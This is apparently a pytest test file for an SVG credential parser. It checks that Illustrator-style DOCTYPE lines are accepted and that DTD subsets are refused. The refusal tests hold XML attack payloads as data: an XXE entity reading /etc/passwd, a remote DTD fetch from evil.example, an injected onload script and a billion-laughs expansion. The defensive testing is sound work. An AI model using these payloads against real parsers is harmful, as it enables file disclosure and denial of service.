"""Baked SVGs from real design tools carry a DOCTYPE line; DTD subsets and entities stay banned.

Adobe Illustrator's "SVG Export" writes ``<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`` after a generator comment; Inkscape and
older editors write the same line. The files below follow that layout.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from credwallet.errors import BadInput
from credwallet.formats import parse
from credwallet.formats.bake import bake_svg, unbake
from credwallet.formats.svg import extract

ILLUSTRATOR_PROLOG = (
    b'<?xml version="1.0" encoding="utf-8"?>\n'
    b"<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)"
    b"  -->\n"
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
)
UNBAKED = ILLUSTRATOR_PROLOG + (
    b'<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" '
    b'xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 200 200" '
    b'style="enable-background:new 0 0 200 200;" xml:space="preserve">\n'
    b'<circle cx="100" cy="100" r="90" fill="#1D4ED8"/>\n</svg>\n'
)
ASSERTION = {
    "@context": "https://w3id.org/openbadges/v2",
    "type": "Assertion",
    "id": "https://badges.example/assertions/1",
    "recipient": {"type": "email", "hashed": False, "identity": "learner@example.org"},
    "badge": "https://badges.example/badges/1",
    "verification": {"type": "hosted"},
    "issuedOn": "2026-01-15T00:00:00Z",
}


def _baked() -> bytes:
    return ILLUSTRATOR_PROLOG + (
        b'<svg version="1.1" xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:openbadges="http://openbadges.org" viewBox="0 0 200 200">\n'
        b'<openbadges:assertion verify="https://badges.example/assertions/1"><![CDATA['
        + json.dumps(ASSERTION).encode()
        + b']]></openbadges:assertion>\n<circle cx="100" cy="100" r="90"/>\n</svg>\n'
    )


def refused(data: bytes) -> str:
    with pytest.raises(BadInput) as caught:
        extract(data)
    return str(caught.value)


class TestDoctypeAccepted:
    def test_illustrator_export_is_read(self) -> None:
        baked = extract(_baked())
        assert baked.keyword == "openbadges"
        assert json.loads(baked.content)["id"] == ASSERTION["id"]

    def test_parse_reads_the_assertion(self) -> None:
        credential = parse(_baked())
        assert credential.document["id"] == ASSERTION["id"]

    def test_baking_an_illustrator_export_round_trips(self) -> None:
        """Baking finds the root element after the DOCTYPE and keeps the prolog as it was."""
        baked = bake_svg(UNBAKED, json.dumps(ASSERTION), keyword="openbadges")
        assert baked.startswith(ILLUSTRATOR_PROLOG)
        keyword, payload = unbake(baked)
        assert keyword == "openbadges"
        assert json.loads(payload)["id"] == ASSERTION["id"]

    def test_system_dtd_is_never_loaded(self, tmp_path: Path) -> None:
        """A DOCTYPE naming a local DTD that defines an entity: the file is not read, so the
        entity stays undefined and the SVG is malformed."""
        dtd = tmp_path / "evil.dtd"
        dtd.write_text('<!ENTITY secret "from the DTD file">', "utf-8")
        svg = (
            f'<!DOCTYPE svg SYSTEM "{dtd.as_uri()}">'
            '<svg xmlns="http://www.w3.org/2000/svg">&secret;</svg>'
        ).encode()
        message = refused(svg)
        assert "undefined entity" in message
        assert "from the DTD file" not in message


class TestSubsetsStillRefused:
    @pytest.mark.parametrize(
        "subset",
        [
            b'<!ENTITY xxe SYSTEM "file:///etc/passwd">',
            b'<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;',
            b'<!ATTLIST svg onload CDATA "alert(1)">',
            b"<!ELEMENT svg ANY>",
        ],
    )
    def test_internal_subset_refused(self, subset: bytes) -> None:
        svg = (
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd" ['
            + subset
            + b']><svg xmlns="http://www.w3.org/2000/svg"/>'
        )
        assert "DTD" in refused(svg)

    def test_billion_laughs_refused(self) -> None:
        entities = b'<!ENTITY lol "lol">' + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i else b"&lol;") * 10)
            for i in range(10)
        )
        svg = (
            b"<!DOCTYPE svg [" + entities + b"]>"
            b'<svg xmlns="http://www.w3.org/2000/svg">&lol9;</svg>'
        )
        assert "DTD" in refused(svg)

    def test_baking_refuses_a_subset(self) -> None:
        svg = (
            b'<!DOCTYPE svg [<!ATTLIST svg x CDATA "y">]><svg xmlns="http://www.w3.org/2000/svg"/>'
        )
        with pytest.raises(BadInput, match="DTD"):
            bake_svg(svg, json.dumps(ASSERTION), keyword="openbadges")
